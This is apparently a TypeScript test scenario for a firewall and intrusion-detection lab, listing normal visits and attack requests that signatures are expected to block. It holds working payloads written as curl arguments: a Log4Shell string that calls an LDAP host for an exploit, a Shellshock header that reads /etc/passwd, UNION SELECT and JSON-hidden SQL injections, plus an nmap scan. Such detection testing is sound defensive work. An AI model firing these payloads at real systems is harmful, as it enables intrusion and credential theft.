/** What happens in the lab: normal visits that must work and attacks that must not. Live and replay tell the same story. */

export const WEB_IP = '10.77.0.10';
const url = `http://${WEB_IP}`;
/** No signature knows it: web protection adds up what its rules find in the parameters of the JSON. */
const SHOP_ORDER = '{"items":[{"sku":"1042","note":"x\' or sleep(9)-- -"}]}';

export interface StoryStep {
  readonly title: string;
  /** VM that acts. */
  readonly from: 'client' | 'attacker';
  /** Arguments of curl, or null for the port scan. */
  readonly curl: readonly string[] | null;
  readonly expect: 'allowed' | 'blocked';
  /** Signature, or rule of web protection, that must have blocked it; without one the firewall must. */
  readonly sid?: number;
  /** Shipped capture of the same traffic; null = there is nothing to capture. */
  readonly pcap: string | null;
}

/** Ports of the scan: the well-known ones. */
export const SCAN_PORTS = 1000;
/** A scan is stopped when it learns no more than this: nmap tries popular ports first, and one of those is public. */
export const SCAN_MAY_LEARN = 5;

export const STORY: readonly StoryStep[] = [
  { title: 'client opens the home page', from: 'client', curl: [`${url}/`], expect: 'allowed', pcap: 'lab-browse.pcap' },
  {
    title: 'attacker sends Log4Shell (CVE-2021-44228) in a header',
    from: 'attacker',
    curl: ['-H', 'X-Api-Version: ${jndi:ldap://10.77.0.66:1389/Exploit}', `${url}/`],
    expect: 'blocked',
    sid: 9000001,
    pcap: 'lab-log4shell.pcap',
  },
  {
    title: 'attacker sends Shellshock (CVE-2014-6271) as user agent',
    from: 'attacker',
    curl: ['-A', '() { :;}; /bin/bash -c "cat /etc/passwd"', `${url}/cgi-bin/status`],
    expect: 'blocked',
    sid: 9000010,
    pcap: 'lab-shellshock.pcap',
  },
  {
    title: 'attacker injects SQL (UNION SELECT) into a query',
    from: 'attacker',
    curl: [`${url}/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-`],
    expect: 'blocked',
    sid: 9000020,
    pcap: 'lab-sqli.pcap',
  },
  {
    title: 'attacker hides SQL in the JSON of a web shop',
    from: 'attacker',
    curl: ['-H', 'Host: shop.lab', '-H', 'Content-Type: application/json', '--data', SHOP_ORDER, `${url}/cart`],
    expect: 'blocked',
    sid: 949110,
    pcap: 'lab-web.pcap',
  },
  { title: `attacker scans ${SCAN_PORTS} ports (nmap -sS)`, from: 'attacker', curl: null, expect: 'blocked', pcap: 'lab-scan.pcap' },
  { title: 'attacker comes back for the home page', from: 'attacker', curl: [`${url}/`], expect: 'blocked', pcap: null },
  { title: 'client opens the home page again', from: 'client', curl: [`${url}/`], expect: 'allowed', pcap: 'lab-browse.pcap' },
];
